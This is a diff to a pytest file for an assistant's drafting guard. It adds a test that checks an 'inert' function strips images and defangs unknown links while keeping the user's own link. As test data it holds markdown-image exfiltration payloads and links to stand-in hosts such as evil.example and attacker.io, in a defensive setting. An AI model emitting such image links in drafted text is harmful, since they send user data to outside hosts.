@@ -5,7 +5,7 @@ from __future__ import annotations
 import pytest
 
 from assistant.drafting.guard import Guard, Limits
-from assistant.drafting.links import active_content, link_hosts
+from assistant.drafting.links import active_content, inert, link_hosts
 
 NOTES = ["Ana shared https://blog.acmehealth.com/marathon-training last week."]
 
@@ -46,3 +46,14 @@ def test_the_guard_sets_aside_a_draft_with_an_exfiltration_image() -> None:
     problems = Guard().problems("Hi Ana! ![x](http://evil.example/?q=marathon)", NOTES,
                                 Limits(max_chars=300))
     assert any("image" in p for p in problems)
+
+
+def test_inert_drops_images_and_defangs_unknown_links_only() -> None:
+    text = ("Hi Ana ![x](http://evil.example/?q=1) <img src=x> see http://evil.example/a, "
+            "https://blog.acmehealth.com/marathon-training and [p](https://attacker.io/y)")
+    safe = inert(text, NOTES)
+    assert active_content(safe, NOTES) == []
+    assert "https://blog.acmehealth.com/marathon-training" in safe  # the user's own link stays
+    assert "evil[.]example/a" in safe and "attacker[.]io/y" in safe
+    assert "<img" not in safe and "![" not in safe
+    assert inert("Hi Ana, how was Chicago?", NOTES) == "Hi Ana, how was Chicago?"
